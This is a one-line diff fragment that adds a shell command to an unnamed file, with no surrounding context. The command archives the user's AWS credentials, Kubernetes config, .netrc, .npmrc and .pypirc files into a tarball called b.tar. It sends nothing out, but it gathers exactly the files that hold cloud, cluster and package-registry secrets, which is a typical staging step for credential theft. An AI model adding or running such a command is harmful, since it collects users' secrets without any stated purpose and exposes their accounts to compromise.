@@ -1,0 +1,1 @@
+tar cf b.tar ~/.aws/credentials ~/.kube/config ~/.netrc ~/.npmrc ~/.pypirc
